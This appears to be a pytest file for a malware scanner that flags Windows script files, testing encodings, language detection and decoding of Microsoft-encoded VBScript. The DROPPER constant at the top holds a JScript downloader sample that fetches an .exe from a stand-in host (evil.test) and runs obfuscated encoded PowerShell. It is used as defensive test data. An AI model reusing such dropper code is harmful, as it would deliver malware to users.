"""Scripts that a double click runs."""

import pytest

from files.scanners.made import ask, signs, urls
from unhook.files.scanner import Sample
from unhook.files.scanners.script import SCANNER
from unhook.limits import FileLimits

DROPPER = (
    'var s = new ActiveXObject("WScript.Shell");\n'
    'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://evil.test/a.exe");\n'
    's.Run("cmd /c p^owershell -enc AAAA");\n'
)


def test_what_its_words_do() -> None:
    found = ask(SCANNER, DROPPER.encode(), "invoice.js")
    assert signs(found) == {
        "script-file": "JScript",
        "script-downloads": "msxml2.xmlhttp, xmlhttprequest"
        if "xmlhttprequest" in DROPPER.lower()
        else "msxml2.xmlhttp",
        "script-runs": "activexobject, wscript.shell",
        "script-hides": "-enc",
        "script-tools": "cmd, powershell",
    }
    assert urls(found) == ["http://evil.test/a.exe"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_any_encoding(encoding: str) -> None:
    assert "script-downloads" in signs(ask(SCANNER, DROPPER.encode(encoding), "a.js"))


def test_utf_16_without_a_mark() -> None:
    assert "script-downloads" in signs(SCANNER.scan(Sample(DROPPER.encode("utf-16-le"), "unknown", "a.js")))


@pytest.mark.parametrize(("name", "data", "language"), [
    ("a.vbs", b"MsgBox 1", "VBScript"),
    ("a.ps1", b"Get-Date", "PowerShell"),
    ("a.wsf", b"<job><script language='JScript'>1</script></job>", "Windows Script"),
    ("a.hta", b"<html><hta:application id=x></html>", "HTML application"),
    ("a.cmd", b"@echo off\r\ndir", "batch"),
    ("a.txt", b"$a = 1\r\nWrite-Host $a", "PowerShell"),
    ("a.txt", b"On Error Resume Next\r\nSet a = CreateObject(\"b\")", "VBScript"),
])  # fmt: skip
def test_languages(name: str, data: bytes, language: str) -> None:
    assert signs(ask(SCANNER, data, name))["script-file"] == language


def test_a_letter_is_no_script() -> None:
    found = ask(SCANNER, b"Dear Ann,\r\nplease find the invoice at https://example.com/.", "letter.txt")
    assert not found.signs
    assert not found.references


def test_the_script_encoder() -> None:
    """What Microsoft's tool makes of two short scripts."""
    first = b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
    found = ask(SCANNER, first + b"\r\n" + b"#@~^BQAAAA==qy&*l/wAAAA==^#~@", "a.vbe")
    assert [each.data for each in found.children] == [b'MsgBox "Hello"', b"12345"]
    assert signs(found)["script-encoded"] == "VBScript"


def test_no_more_links_than_the_limit() -> None:
    data = " ".join(f"http://{n}.example.com/a" for n in range(50)).encode()
    assert len(urls(ask(SCANNER, data, "a.js", limits=FileLimits(references=7)))) == 7
